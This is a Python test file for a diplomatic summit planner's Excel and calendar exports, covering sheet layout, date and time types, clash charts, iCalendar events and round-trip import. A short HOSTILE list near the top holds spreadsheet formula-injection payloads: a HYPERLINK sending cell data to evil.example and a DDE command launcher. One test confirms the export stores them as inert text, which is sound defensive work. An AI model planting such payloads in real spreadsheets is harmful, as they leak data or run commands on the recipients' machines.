"""The Excel and calendar exports, reopened the way a colleague's Excel or phone would."""

from __future__ import annotations

import hashlib
import zipfile
from datetime import date, datetime, time, timedelta
from decimal import Decimal
from zoneinfo import ZoneInfo

import openpyxl
import pytest
from icalendar import Calendar

from db.models import AgendaIssue, Meeting, Track
from planner.cli import run_command
from planner.errors import PlannerError
from planner.export import cells
from planner.export.calendar import export_calendar
from planner.export.sheets.days import CHART_WIDTH, CLASH_LINES, clash_text, page_groups
from planner.export.workbook import (
    STEPS,
    Column,
    Table,
    block_lines,
    export_workbook,
    text_lines,
)
from planner.summit_file import close_summit_file, open_summit_file
from planner.text import CUT_MARK
from planner.text import EXCEL_LIMIT as MAX_TEXT
from tests.planner.strict_calendar import read_strictly

ZONE = ZoneInfo("Asia/Almaty")
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+2",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "\n=cmd|' /C calc'!A0",
    "=1+1",
]


def workbook(path):
    return openpyxl.load_workbook(path)


def test_workbook_has_every_sheet_laid_out_for_screen_and_paper(sample_summit, tmp_path):
    out = tmp_path / "astana.xlsx"
    export_workbook(out)
    book = workbook(out)
    assert book.sheetnames == [
        "Summary",
        "Schedule",
        "Mon 16 Jun",
        "Tue 17 Jun",
        "Issues",
        "Positions",
        "Talking points",
        "Financing",
        "Financing totals",
        "Conflicts",
    ]
    for sheet in book.worksheets:
        assert sheet.freeze_panes == "A2", sheet.title
        assert sheet.print_title_rows == "$1:$1", sheet.title
        assert sheet.sheet_properties.pageSetUpPr.fitToPage, sheet.title
        assert sheet["A1"].font.bold, sheet.title
        if not sheet.title.startswith(("Mon", "Tue", "Summary")):
            assert sheet.page_setup.fitToWidth == 1, sheet.title
            last = openpyxl.utils.get_column_letter(sheet.max_column)
            assert sheet.auto_filter.ref == f"A1:{last}{sheet.max_row}", sheet.title
    # a chart of the sample's eight rooms prints four rooms to a page, the time on each
    chart = book["Mon 16 Jun"]
    assert chart.page_setup.fitToWidth == 2 and chart.print_title_cols == "$A:$A"
    assert [b.id for b in chart.col_breaks.brk] == [5]
    assert book["Schedule"].page_setup.orientation == "landscape"
    # "Financing requests" wraps in its narrow column: the header row is two lines tall
    assert book["Schedule"].row_dimensions[1].height == 26
    assert "Central Asia–China Summit" in book.properties.title
    assert book.properties.creator.startswith("Summit Planner")


def test_schedule_rows_hold_real_dates_and_times_in_the_summit_zone(sample_summit, tmp_path):
    out = tmp_path / "astana.xlsx"
    export_workbook(out)
    sheet = workbook(out)["Schedule"]
    header = [c.value for c in sheet[1]]
    rows = [dict(zip(header, (c.value for c in row), strict=True)) for row in sheet.iter_rows(2)]
    meetings = {m.id: m for m in Meeting.select()}
    assert len(rows) == len(meetings)
    assert [r["Meeting ID"] for r in rows] == sorted(meetings, key=lambda i: (meetings[i].start, i))
    for row in rows:
        meeting = meetings[row["Meeting ID"]]
        start = meeting.start.astimezone(ZONE)
        assert row["Day"] == datetime.combine(start.date(), time())  # a date, not text
        assert row["Start"] == start.time().replace(tzinfo=None)
        assert row["End"] == meeting.end.astimezone(ZONE).time().replace(tzinfo=None)
        assert row["Minutes"] == (meeting.end - meeting.start) // timedelta(minutes=1)
        assert row["Title"] == meeting.title
    assert sheet["A2"].number_format == "yyyy-mm-dd"
    assert sheet["B2"].number_format == "hh:mm"
    first = rows[0]
    assert first["Agenda issues"].startswith("POL-06, POL-01,\nPOL-03")  # no code cut in two
    wrapped = [sheet.row_dimensions[r].height for r in range(2, sheet.max_row + 1)]
    assert any(h and h > 15 for h in wrapped)  # long titles get taller rows


def test_one_delegations_view_without_positions(sample_summit, tmp_path):
    out = tmp_path / "kg.xlsx"
    export_workbook(out, delegation="kg", positions=False)
    book = workbook(out)
    assert "Positions" not in book.sheetnames and "Talking points" not in book.sheetnames
    rows = list(book["Schedule"].iter_rows(2, values_only=True))
    assert rows and all("KG" in row[7].split(", ") for row in rows)
    assert len(rows) < Meeting.select().count()
    summary = dict(book["Summary"].iter_rows(2, values_only=True))
    assert summary["View"] == "meetings of KG — Kyrgyzstan"
    assert summary["For"].startswith("External")  # another delegation's: to send outside


def test_unknown_delegation_is_named_and_nothing_is_written(sample_summit, tmp_path):
    out = tmp_path / "xx.xlsx"
    with pytest.raises(PlannerError, match="no delegation XX.*KZ"):
        export_workbook(out, delegation="xx")
    assert list(tmp_path.glob("*.xlsx")) == []


def test_hostile_text_comes_back_as_the_same_inert_text(sample_summit, tmp_path):
    track = Track.select().first()
    long_text = "x" * (MAX_TEXT + 500)
    for number, text in enumerate(HOSTILE):
        AgendaIssue.create(code=f"HOST-{number}", title=text, track=track, description=text)
    AgendaIssue.create(
        code="HOST-CTRL", title="bell\x07 and null\x00 gone", track=track, description=long_text
    )
    out = tmp_path / "hostile.xlsx"
    export_workbook(out)
    sheet = workbook(out)["Issues"]
    found = {row[0].value: row for row in sheet.iter_rows(2) if row[0].value.startswith("HOST")}
    for number, text in enumerate(HOSTILE):
        title = found[f"HOST-{number}"][1]
        assert title.value == text.replace("\r", "\n")  # line ends are line feeds in XML
        assert title.data_type == "s"  # text, never a formula
    control = found["HOST-CTRL"]
    assert control[1].value == "bell and null gone"
    assert len(control[8].value) == MAX_TEXT and control[8].value.endswith(CUT_MARK)
    with zipfile.ZipFile(out) as archive:
        xml = "".join(
            archive.read(name).decode()
            for name in archive.namelist()
            if name.startswith("xl/worksheets/")
        )
    assert "<f>" not in xml and "<f " not in xml  # not a single formula anywhere


def test_cancelled_export_leaves_the_earlier_file_as_it_was(sample_summit, tmp_path):
    out = tmp_path / "astana.xlsx"
    export_workbook(out)
    before = hashlib.sha256(out.read_bytes()).hexdigest()
    seen = []

    def cancel_at_positions(step: str) -> bool:
        seen.append(step)
        return step != "positions"

    with pytest.raises(PlannerError, match="cancelled"):
        export_workbook(out, progress=cancel_at_positions)
    assert seen == list(STEPS[: STEPS.index("positions") + 1])
    assert hashlib.sha256(out.read_bytes()).hexdigest() == before
    assert [p.name for p in tmp_path.iterdir() if p.is_file() and p.suffix != ".summit"] == [
        "astana.xlsx"
    ]


def test_failed_write_names_the_file_and_leaves_nothing(sample_summit, tmp_path):
    with pytest.raises(PlannerError, match="missing.*could not be written"):
        export_workbook(tmp_path / "missing" / "out.xlsx")


def test_table_cells_keep_their_types_formats_and_fills(tmp_path):
    book = openpyxl.Workbook(write_only=True)
    table = Table(
        book,
        "Types",
        [Column("Text", 20, wrap=True), Column("Number", 10), Column("When", 12, "yyyy-mm-dd")],
    )
    table.add(["plain", 3, date(2025, 6, 16)])
    table.add(["two\nlines", Decimal("1234.50"), datetime(2025, 6, 16, 9, 30)])
    table.add([None, True, time(9, 30)])
    table.add(["", 2.5, table.cell("", fill="FFCDD2")])
    with pytest.raises(TypeError, match="A list cannot be written"):
        table.add([["a"], 1, None])
    table.close()
    book.save(tmp_path / "types.xlsx")

    sheet = openpyxl.load_workbook(tmp_path / "types.xlsx")["Types"]
    rows = list(sheet.iter_rows(min_row=2, values_only=True))
    assert rows[0] == ("plain", 3, datetime(2025, 6, 16))
    assert rows[1] == ("two\nlines", 1234.5, datetime(2025, 6, 16, 9, 30))
    assert rows[2] == (None, True, time(9, 30))
    assert rows[3] == (None, 2.5, None)
    assert sheet["A3"].alignment.wrap_text and sheet.row_dimensions[3].height == 26
    assert sheet["C2"].number_format == "yyyy-mm-dd"
    assert sheet["C3"].is_date and sheet["C4"].is_date
    assert sheet["C5"].fill.fgColor.rgb == "00FFCDD2"  # an empty cell kept for its colour
    assert sheet["A5"].style_id == 0  # nothing to show: nothing written
    assert sheet.auto_filter.ref == "A1:C5"


def sheet_xml(path) -> dict[str, bytes]:
    with zipfile.ZipFile(path) as archive:
        return {n: archive.read(n) for n in archive.namelist() if n.startswith("xl/work")}


def test_rows_are_written_exactly_as_openpyxls_own_writer_writes_them(tmp_path, monkeypatch):
    texts = [" leading", "trailing ", "   ", "a & b < c > d", "say \"no\" 'twice'", "two\nlines"]
    texts += ["\ttab", "=1+1", "üñí € 中文", "\u00a0nbsp\u00a0", "x" * 300, "]]>&amp;"]
    values = [3, -0.0, 2.5, 1e-300, 10**20, float("nan"), float("inf"), Decimal("1234.50"), True]
    values += [date(2025, 6, 16), datetime(2025, 6, 16, 9, 30), time(9, 30), timedelta(hours=2)]

    def export(path) -> dict[str, bytes]:
        book = openpyxl.Workbook(write_only=True)
        table = Table(book, "Cells", [Column("Text", 20, wrap=True), Column("Value", 10)])
        for text, value in zip(texts, values, strict=False):
            table.add([text, value])
        for value in values[len(texts) :]:
            table.add([None, value])
        cell = table.cell
        table.add([cell("bold", bold=True), cell("", fill="FFCDD2")])
        table.add([cell("white", fill="2F4F6F", colour="FFFFFF"), cell(7, "#,##0.00")])
        table.close()
        book.save(path)
        return sheet_xml(path)

    ours = export(tmp_path / "ours.xlsx")
    monkeypatch.setattr(cells, "cell_xml", lambda cell, epoch: None)  # all by openpyxl's writer
    assert ours == export(tmp_path / "openpyxl.xlsx")


def test_day_chart_lines_fit_the_rows_a_meeting_covers():
    class Block:
        title = "Plenary session of the Heads of State on the future of the region"
        start = datetime(2025, 6, 17, 10, 30)
        end = datetime(2025, 6, 17, 12, 30)
        participants = "KZ-CN-KG"

    lines = block_lines(Block, 8)
    assert lines[0].startswith("10:30–12:30 Plenary") and lines[-1] == "KZ-CN-KG"
    assert " ".join(lines[:-1]) == "10:30–12:30 " + Block.title
    short = block_lines(Block, 1)  # a block of one row: its time and the start of its title
    assert len(short) == 1 and short[0].startswith("10:30–12:30 Plen") and short[0][-1] == "…"
    assert text_lines("a" * 30, 26) == 2 and text_lines("one\ntwo", 26) == 2


def test_clashing_meetings_in_one_room_show_on_the_day_chart(sample_summit, tmp_path):
    first, second = Meeting.select().where(Meeting.room.is_null(False)).limit(2)
    second.room, second.start, second.end = first.room, first.start, first.end
    second.save()
    out = tmp_path / "clash.xlsx"
    export_workbook(out)
    day = first.start.astimezone(ZONE)
    sheet = workbook(out)[f"{day:%a %d %b}"]
    texts = [c.value or "" for row in sheet.iter_rows(2) for c in row[1:]]
    # both meetings' times and the start of their titles, in a cell of a few lines
    end = second.end.astimezone(ZONE)
    both = [f"{first.title.split()[0]} / ", f"{end:%H:%M} {second.title.split()[0]}"]
    assert any(all(part in t for part in both) for t in texts)
    fills = {c.fill.fgColor.rgb for row in sheet.iter_rows(2) for c in row[1:]}
    assert "00FF8A80" in fills and any(t.startswith("Clash: ") for t in texts)


def test_calendar_events_parse_with_stable_uids_zone_and_status(sample_summit, tmp_path):
    first, second = tmp_path / "a.ics", tmp_path / "b.ics"
    count = export_calendar(first)
    export_calendar(second)
    strict, calendar = read_strictly(first)
    events = calendar.walk("VEVENT")
    assert len(strict.events) == len(events)
    meetings = {m.id: m for m in Meeting.select()}
    assert count == len(events) == len(meetings)
    assert [e["UID"] for e in events] == [
        e["UID"] for e in Calendar.from_ical(second.read_bytes()).walk("VEVENT")
    ]
    assert len({e["UID"] for e in events}) == len(events)
    assert calendar.walk("VTIMEZONE")[0]["TZID"] == "Asia/Almaty"
    statuses = {"cancelled": "CANCELLED", "confirmed": "CONFIRMED", "proposed": "TENTATIVE"}
    for event in events:
        meeting = meetings[int(str(event["UID"]).split("-")[1])]
        start = event.decoded("DTSTART")
        assert start == meeting.start and str(start.tzinfo) == "Asia/Almaty"
        assert event.decoded("DTEND") == meeting.end
        assert str(event["SUMMARY"]) == meeting.title
        if meeting.status in statuses:
            assert event["STATUS"] == statuses[meeting.status]
    opening = next(e for e in events if str(e["UID"]).startswith("meeting-1-"))
    assert "POL-06 Biennial summit format" in str(opening["DESCRIPTION"])
    assert "Astana Hall" in str(opening["LOCATION"])


def test_calendar_of_one_delegation(sample_summit, tmp_path):
    out = tmp_path / "tm.ics"
    count = export_calendar(out, delegation="TM")
    events = read_strictly(out)[1].walk("VEVENT")
    assert count == len(events) and 0 < count < Meeting.select().count()
    assert all("TM" in str(e["DESCRIPTION"]).splitlines()[0] for e in events)


def test_command_line_export_and_ics(sample_summit, tmp_path, capsys):
    close_summit_file()
    xlsx, ics = tmp_path / "out.xlsx", tmp_path / "out.ics"
    assert run_command(["export", str(sample_summit), str(xlsx), "--no-positions"]) == 0
    assert "Positions" not in workbook(xlsx).sheetnames
    assert run_command(["ics", str(sample_summit), str(ics), "--delegation", "KZ"]) == 0
    assert "events)" in capsys.readouterr().out
    read_strictly(ics)
    assert run_command(["ics", str(sample_summit), str(ics), "--delegation", "QQ"]) == 1
    assert "no delegation QQ" in capsys.readouterr().err
    open_summit_file(sample_summit)
    assert date(2025, 6, 16) <= Meeting.select().first().start.date()


def snapshot() -> tuple:
    from db.models import MeetingDelegation, Position

    return (
        sorted(AgendaIssue.select().tuples()),
        sorted(Meeting.select().tuples()),
        sorted(
            MeetingDelegation.select(
                MeetingDelegation.meeting, MeetingDelegation.delegation
            ).tuples()
        ),
        sorted(Position.select(Position.issue, Position.delegation, Position.stance).tuples()),
    )


def test_our_own_export_imports_back_without_changing_anything(sample_summit, tmp_path, capsys):
    out = tmp_path / "astana.xlsx"
    export_workbook(out)
    before = snapshot()
    close_summit_file()
    for sheet, kind in (("Issues", "issues"), ("Schedule", "meetings"), ("Positions", "positions")):
        status = run_command(
            ["import", str(sample_summit), str(out), "--sheet", sheet, "--kind", kind]
        )
        assert status == 0, capsys.readouterr().err
        assert "0 created" in capsys.readouterr().out
    open_summit_file(sample_summit)
    assert snapshot() == before


def test_with_lxml_plain_rows_still_go_through_our_row_writer(tmp_path, monkeypatch):
    assert cells.LXML  # a dependency: openpyxl writes through lxml's C writer

    def refuse(*_args, **_kwargs):
        raise AssertionError("a plain cell went through openpyxl's writer")

    monkeypatch.setattr(cells, "write_cell", refuse)
    book = openpyxl.Workbook(write_only=True)
    table = Table(book, "Plain", [Column("Text", 20), Column("Value", 10)])
    table.add(["中文 and Кириллица", 3])
    table.close()
    book.save(tmp_path / "plain.xlsx")
    sheet = openpyxl.load_workbook(tmp_path / "plain.xlsx")["Plain"]
    assert [c.value for c in sheet[2]] == ["中文 and Кириллица", 3]


def test_day_chart_pages_keep_a_buildings_rooms_together():
    # five rooms of one building and three of another: the three join the page the fifth is on
    assert page_groups(["P"] * 5 + ["Q"] * 3) == [0, 4]
    # four buildings of fifteen rooms: each starts a page; "no room" joins the last one
    starts = page_groups([b for b in "ABCD" for _ in range(15)] + ["N"])
    assert starts[:5] == [0, 4, 8, 12, 15] and len(starts) == 16
    assert page_groups([]) == []


def test_clash_cells_hold_a_few_lines_and_count_the_rest():
    texts = [f"09:00–10:00 Meeting number {n}" for n in range(40)]
    text = clash_text(texts)
    assert text.startswith("Clash: 09:00–10:00 Meeting") and text.endswith("…")
    assert text_lines(text, CHART_WIDTH) <= CLASH_LINES
    assert clash_text(texts[:1]) == "Clash: " + texts[0]


def test_meetings_without_a_room_are_counted_on_the_chart_and_listed_after_it(
    sample_summit, tmp_path
):
    waiting = list(Meeting.select().where(Meeting.room.is_null(False)).limit(30))
    day = waiting[0].start.astimezone(ZONE).date()
    waiting = [m for m in waiting if m.start.astimezone(ZONE).date() == day][:3]
    for meeting in waiting:
        meeting.room = None
        meeting.start, meeting.end = waiting[0].start, waiting[0].end
        meeting.save()
    out = tmp_path / "waiting.xlsx"
    export_workbook(out)
    book = workbook(out)
    chart = book[f"{day:%a %d %b}"]
    header = [c.value for c in chart[1]]
    column = header.index("No room yet")
    cells = [row[column].value for row in chart.iter_rows(2) if row[column].value]
    assert cells[0] == f"{len(waiting)} waiting" and len(cells) >= 1
    assert {row[column].fill.fgColor.rgb for row in chart.iter_rows(2) if row[column].value} == {
        "00EEEEEE"
    }
    listed = book[f"{day:%a %d %b}, no room"]
    titles = [row[1].value for row in listed.iter_rows(2)]
    assert sorted(titles) == sorted(m.title for m in waiting)
    summary = {row[0].value: row[1].value for row in book["Summary"].iter_rows()}
    assert summary[f"Without a room, {day:%a %d %b}"] == f"{len(waiting)} meetings"
    book.close()
